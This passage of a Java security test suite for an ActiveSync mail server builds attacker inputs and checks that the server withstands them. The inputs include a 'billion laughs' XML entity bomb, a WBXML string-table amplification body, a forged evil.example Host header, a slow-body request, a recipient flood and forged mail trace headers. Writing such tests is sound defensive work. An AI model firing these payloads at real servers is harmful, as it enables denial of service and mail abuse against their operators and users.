        out.writeBytes(new byte[] {0x00, 0x07, 0x56});
        for (int e = 0; e < 60; e++) {
            out.write(0x52);
            for (int r = 0; r < 500; r++) {
                out.writeBytes(new byte[] {(byte) 0x83, 0x00});
            }
            out.write(0x01);
        }
        out.write(0x01);
        return out.toByteArray();
    }

    /** A FolderSync whose one SyncKey names the one-byte string-table entry {@code references} times. */
    private static byte[] stringTableReferences(int references) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x03, 0x01, 0x6A, 0x02, 'a', 0x00, 0x00, 0x07, 0x56, 0x52});
        for (int r = 0; r < references; r++) {
            out.writeBytes(new byte[] {(byte) 0x83, 0x00});
        }
        out.writeBytes(new byte[] {0x01, 0x01});
        return out.toByteArray();
    }

    private static WbxmlElement attachmentFetch(String fileReference, @org.jspecify.annotations.Nullable String range) {
        WbxmlElement fetch =
                WbxmlElement.of(I, "Fetch").add("Store", "Mailbox").add(BASE, "FileReference", fileReference);
        if (range != null) {
            fetch.add(WbxmlElement.of(I, "Options").add("Range", range));
        }
        return fetch;
    }

    private static WbxmlElement galSearch(String query) {
        CodePage search = CodePage.SEARCH;
        return WbxmlElement.of(search, "Search")
                .add(WbxmlElement.of(search, "Store")
                        .add("Name", "GAL")
                        .add("Query", query)
                        .add(WbxmlElement.of(search, "Options").add("Range", "0-99")));
    }

    private static WbxmlElement itemOperations(WbxmlElement operation) {
        return WbxmlElement.of(I, "ItemOperations").add(operation);
    }

    private static WbxmlElement move(String serverId, long from, long to) {
        return WbxmlElement.of(M, "MoveItems")
                .add(WbxmlElement.of(M, "Move")
                        .add("SrcMsgId", serverId)
                        .add("SrcFldId", Long.toString(from))
                        .add("DstFldId", Long.toString(to)));
    }

    private static WbxmlElement smart(String root, Arena a, long folder, String itemId) {
        String mime = "From: " + a.attacker.address() + "\r\nTo: eve@example.org\r\nSubject: fw\r\n\r\nsee below\r\n";
        return WbxmlElement.of(C, root)
                .add("ClientId", root + "-" + a.marker)
                .addEmpty("SaveInSentItems")
                .add(WbxmlElement.of(C, "Source")
                        .add("FolderId", Long.toString(folder))
                        .add("ItemId", itemId))
                .add(WbxmlElement.opaque(C, "Mime", mime.getBytes(StandardCharsets.UTF_8)));
    }

    private static WbxmlElement sendMail(String clientId, String mime) {
        return WbxmlElement.of(C, "SendMail")
                .add("ClientId", clientId)
                .add(WbxmlElement.opaque(C, "Mime", mime.getBytes(StandardCharsets.UTF_8)));
    }

    static final String FORM = "application/x-www-form-urlencoded";

    /** The attacker's own phone through the REST API: the credentials are valid, only the request's origin is not. */
    private static Arena.HttpCall ownDevice(Arena a, String method, String action) {
        return a.rest(method, "/api/v1/devices/" + a.attacker.devicePk + action);
    }

    /** The attacker's phone is still allowed, with no wipe pending. */
    private static Expect untouchedPhone() {
        return access(a -> a.attacker.devicePk, "ALLOWED").and(wipe(a -> a.attacker.devicePk, "NONE", false));
    }

    private static Expect access(java.util.function.ToLongFunction<Arena> device, String state) {
        return (outcome, a) -> assertThat(
                        a.devices.detail(device.applyAsLong(a)).accessState())
                .as("access of the device")
                .hasToString(state);
    }

    private static Expect wipe(java.util.function.ToLongFunction<Arena> device, String state, boolean byAdministrator) {
        return (outcome, a) -> {
            org.atoll.device.DeviceDetail detail = a.devices.detail(device.applyAsLong(a));
            assertThat(detail.wipeState()).as("wipe of the device").hasToString(state);
            if (byAdministrator) {
                assertThat(detail.wipeByAdministrator())
                        .as("the wipe is still the administrator's")
                        .isTrue();
            }
        };
    }

    /** A request from the attacker's device that acknowledged an administrator's wipe, with its own policy key. */
    private static Arena.EasCall wipedDevice(Arena a, String command) {
        return a.eas(command).deviceId("HeldWiped").policyKey(Long.toString(a.wiped.policyKey()));
    }

    /** The copy in the victim's Inbox carries none of the forged trace, by line or by header name. */
    private static void victimsCopyHasNoForgedTrace(Outcome outcome, Arena a) {
        List<org.atoll.mailbox.MessageView> arrived =
                a.mailboxes.messages(a.victim.id(), a.victim.inbox, 0, 50).stream()
                        .filter(m -> ("trace-" + a.marker).equals(m.subject()))
                        .toList();
        assertThat(arrived).as("the victim's copy").hasSize(1);
        String raw =
                new String(a.mailboxes.rawMime(a.victim.id(), arrived.getFirst().id()), StandardCharsets.UTF_8);
        String headers = raw.substring(0, raw.indexOf("\r\n\r\n") + 2);
        assertThat(headers).as("the victim's copy's header").doesNotContain("bank.example");
        for (String line : FORGED_TRACE) {
            String name = line.substring(0, line.indexOf(':') + 1);
            if (!name.equals("Received:")) {
                assertThat(("\n" + headers).toLowerCase(java.util.Locale.ROOT))
                        .as("the victim's copy's header")
                        .doesNotContain("\n" + name.toLowerCase(java.util.Locale.ROOT));
            }
        }
        assertThat(raw).contains("Please wire the money today.");
    }

    /** A thousand addresses past the default allowance of recipients an hour. */
    private static String floodRecipients() {
        StringBuilder to = new StringBuilder();
        for (int i = 0; i < 1000; i++) {
            to.append(", r").append(i).append("@flood.example");
        }
        return to.toString();
    }

    private static String messagePath(long accountId, Arena a) {
        return "/api/v1/mailboxes/" + accountId + "/messages/" + a.victim.message.id();
    }

    /** The operation's own Status is not 1 (success). */
    private static Expect operationNotDone(String operation) {
        return (outcome, a) -> {
            WbxmlElement root = outcome.wbxml();
            java.util.Optional<String> status = root.child("Response")
                    .flatMap(r -> r.child(operation))
                    .flatMap(o -> o.text("Status"))
                    .or(() -> root.text("Status").filter(s -> !s.equals("1")));
            assertThat(status).as("%s status in %s", operation, outcome).isPresent();
            assertThat(status).isNotEqualTo(java.util.Optional.of("1"));
        };
    }

    private static String billionLaughs(String ns, String schema) {
        StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"");
            dtd.append(("&lol" + (i - 1) + ";").repeat(10));
            dtd.append("\">");
        }
        return dtd + "]><Autodiscover xmlns=\"" + ns + "\"><Request><EMailAddress>&lol9;</EMailAddress>"
                + "<AcceptableResponseSchema>" + schema + "</AcceptableResponseSchema></Request></Autodiscover>";
    }

    private static byte[] hostHead(Arena a, byte[] body) {
        return ("POST /autodiscover/autodiscover.xml HTTP/1.1\r\nHost: evil.example:8443\r\nConnection: close\r\n"
                        + "Authorization: " + a.attacker.basic() + "\r\nContent-Type: text/xml\r\nContent-Length: "
                        + body.length + "\r\n\r\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] huge(int size) {
        StringBuilder text = new StringBuilder("Subject: huge\r\n\r\n");
        String line = "x".repeat(76) + "\r\n";
        while (text.length() < size) {
            text.append(line);
        }
        return text.append(".\r\n").toString().getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * Opens a FolderSync whose body arrives one half now and the rest later; while it waits, the victim's phone
     * syncs as usual. The attacker's request is then completed and served.
     */
    private static Outcome slowBody(Arena a) throws Exception {
        byte[] body = Arena.wbxml(folderSync(a.attacker.folderSyncKey));
        byte[] head = RawHttp.head(
                "POST",
                a.eas("FolderSync").target(),
                List.of(
                        "Authorization: " + a.attacker.basic(),
                        "MS-ASProtocolVersion: 14.1",
                        "X-MS-PolicyKey: " + a.attacker.phone.policyKey(),
                        "Content-Type: application/vnd.ms-sync.wbxml",
                        "Content-Length: " + body.length));
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", a.port)) {
            socket.setSoTimeout(60_000);
            socket.getOutputStream().write(head);
            socket.getOutputStream().write(body, 0, body.length / 2);
            socket.getOutputStream().flush();
            Outcome victimRead = a.rest("GET", "/api/v1/mailboxes/" + a.victim.id() + "/folders")
                    .bearer(a.victim.token)
                    .send();
            assertThat(victimRead.status())
                    .as("the victim's own request while the slow body waits")
                    .isEqualTo(200);
            socket.getOutputStream().write(body, body.length / 2, body.length - body.length / 2);
            socket.getOutputStream().flush();
            socket.shutdownOutput();
            Outcome outcome = Outcome.http(RawHttp.read(socket.getInputStream()));
            if (outcome.status() == 200) {
                outcome.wbxml().text("SyncKey").ifPresent(key -> a.attacker.folderSyncKey = key);
            }
            return outcome;
        }
    }
}
